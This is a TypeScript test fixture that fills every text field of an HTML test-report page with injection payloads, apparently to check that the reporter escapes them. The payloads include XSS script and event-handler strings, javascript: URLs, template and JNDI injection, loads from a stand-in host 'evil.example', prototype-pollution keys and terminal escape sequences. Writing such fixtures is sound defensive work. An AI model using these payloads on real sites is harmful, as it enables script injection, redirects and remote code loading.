import type { PageData, PageTest } from '../../src/reporters/html/page-data.ts';
import { failingPage } from './page-fixture.ts';
import { totalsOf } from './page-parts.ts';
import { problem } from './page-tests.ts';

const run = `window.pwned=(window.pwned||0)+1`;

/** What would run, load, hide or disguise something wherever text is taken for more than text. */
export const payloads: readonly string[] = [
  `</script><script>${run}</script>`,
  `</SCRIPT ><script>${run}</script>`,
  `<!--<script>${run}</script>`,
  `--><script>${run}</script>`,
  `<![CDATA[<script>${run}</script>]]>`,
  `]]><script>${run}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script type=module>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<img src="https://evil.example/pixel.png">`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}></svg>#x">`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}" autofocus onfocus="${run}">x</a>`,
  `<body onload="${run}">`,
  `<details open ontoggle="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<input autofocus onfocus="${run}">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<style>*{display:none}</style>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<link rel=prefetch href="https://evil.example/x">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><button autofocus>go</button></form>`,
  `<math><mtext><script>${run}</script></mtext></math>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><script>${run}</script>">`,
  `<plaintext>`,
  `<textarea><script>${run}</script>`,
  `" onmouseover="${run}" x="`,
  `' onfocus='${run}' autofocus='`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  '`${' + run + '}`',
  `{{constructor.constructor('${run}')()}}`,
  '${jndi:ldap://evil.example/x}',
  `<\u0000script>${run}</script>`,
  `\u2028</script><script>${run}</script>\u2029`,
  `\u202e<script>${run}\u202c`,
  `\u001b]8;;javascript:${run}\u0007link\u001b]8;;\u0007`,
  `\u001b[8mhidden\u001b[0m\u001b[2J\u001b[1;1H`,
  `\u0007\b\b\b\b\r overwritten \u007f\u0085\u009b31m`,
  `zero\u200bwidth\ufeffjoin\u2060ed\u00ad`,
  `\ud800 lone \udfff halves &lt;script&gt; &#x3c;script>`,
  `__proto__`,
  `constructor`,
];

/** A page on which every text that comes from tests is one of the payloads. */
export function hostilePage(): PageData {
  const base = failingPage();
  const [first, ...others] = base.tasks;
  if (first === undefined) throw new Error('the page has no task');
  const tests = payloads.map((text, at): PageTest => [
    ...([at, at, text, 'f', at, at + 1] as const),
    {
      ...problem(text, text, `${text}\n- ${text}\n+ ${text}`),
      stdout: text,
      stderr: text,
      skipReason: text,
      rerun: text,
    },
  ]);
  const text = payloads.join('\n');
  const task = {
    ...first,
    ...{
      id: text,
      category: payloads[0] ?? '',
      suite: payloads[8] ?? '',
      framework: text,
      outcomeText: text,
      rerun: text,
    },
    ...{ outcome: 'crashed', totals: totalsOf(tests), critical: true },
    attempts: first.attempts.map((attempt) => ({
      ...attempt,
      tail: text,
      log: 'javascript:alert(1)',
      leaked: payloads,
    })),
  };
  return {
    ...base,
    run: {
      ...base.run,
      ...{ project: text, environment: text, shard: text, runId: text, rerun: text, warnings: payloads },
      alerts: payloads.map((payload) => ({ kind: 'incomplete', text: payload, hint: payload })),
      categories: base.run.categories.map((category) => ({
        ...{ ...category, name: text, skip: text },
        coverage: { percent: text, text, short: true },
      })),
      withoutCoverage: payloads,
      links: payloads.map((payload) => ({ name: payload, path: payload })),
    },
    tasks: [task, ...others],
    services: [{ name: text, spans: [{ kind: 'ready', from: 0, to: 9_000, text }] }],
    groups: [{ task: 0, files: payloads, classNames: payloads, tests }],
    history: { __proto__: 'ppp', '0.0': '<script>' },
  };
}
